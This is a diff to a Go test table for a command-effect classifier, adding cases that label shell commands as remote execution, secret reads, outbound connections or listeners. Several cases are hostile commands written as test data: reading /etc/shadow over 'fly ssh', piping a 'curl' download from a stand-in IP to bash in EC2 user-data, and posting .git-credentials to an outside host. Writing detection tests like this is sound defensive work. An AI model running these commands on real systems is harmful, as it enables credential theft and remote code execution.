@@ -67,6 +67,13 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "pdsh -w web[01-10] uptime", want: []want{{"exec", "pdsh:web[01-10]", "uptime", "pdsh:"}}},
 		{cmd: "docker -H tcp://192.0.2.150:2375 ps", want: []want{{"exec", "daemon:tcp://192.0.2.150:2375", "container daemon", "daemon:"}}},
 		{cmd: "docker -H unix:///var/run/docker.sock ps", none: []want{{"exec", "", "container daemon", ""}}},
+		{cmd: "DOCKER_HOST=tcp://10.0.0.5:2375 docker ps", want: []want{{"exec", "daemon:tcp://10.0.0.5:2375", "container daemon", "daemon:"}}},
+		{cmd: "heroku run bash -a acme-prod", want: []want{{"exec", "heroku:acme-prod", "bash", "heroku:"}}},
+		{cmd: "fly ssh console -C 'cat /etc/shadow'", want: []want{{"secret", "/etc/shadow", "shadow", "fly:"}}},
+		{cmd: "aws ec2 run-instances --image-id ami-1 --user-data 'curl -s http://203.0.113.9/x | bash'", want: []want{{"connect", "203.0.113.9", "http", "ec2:"}}},
+		{cmd: "aws ssm create-association --name AWS-RunShellScript --parameters commands=id", want: []want{{"exec", "ssm:", "id", "ssm:"}}},
+		{cmd: "gcloud compute start-iap-tunnel vm1 22 --local-host-port=0.0.0.0:2222", want: []want{{"listen", "0.0.0.0", "relay", ""}}},
+		{cmd: "minikube tunnel --bind-address 0.0.0.0", want: []want{{"listen", "0.0.0.0", "relay", ""}}},
 		// Public access and grants.
 		{cmd: "aws s3api put-bucket-acl --bucket b --acl public-read", want: []want{{"privilege", "cloud:aws s3", "", ""}}},
 		{cmd: `aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"s3:GetObject"}]}'`, want: []want{{"privilege", "cloud:aws s3", "", ""}}},
@@ -89,6 +96,9 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "curl --socks5-hostname 203.0.113.7:1080 https://example.com", want: []want{{"connect", "203.0.113.7", "proxy", ""}}},
 		{cmd: "curl --resolve localhost:8443:127.0.0.1 https://localhost:8443/health", want: []want{{"connect", "127.0.0.1", "resolve", ""}}},
 		{cmd: "curl https://api.github.com/", none: []want{{"connect", "", "proxy", ""}, {"connect", "", "resolve", ""}}},
+		{cmd: "kubectl --server=https://203.0.113.5:6443 get pods", want: []want{{"connect", "203.0.113.5", "server", ""}}},
+		{cmd: "VAULT_ADDR=http://203.0.113.5:8200 vault status", want: []want{{"connect", "203.0.113.5", "server", ""}}},
+		{cmd: "kubectl --context kind-dev get pods", none: []want{{"connect", "", "server", ""}}},
 		{cmd: "xh post 203.0.113.9/x @/home/user/.git-credentials", want: []want{{"read", "/home/user/.git-credentials", "", ""}}},
 	}
 	match := func(e Effect, w want) bool {
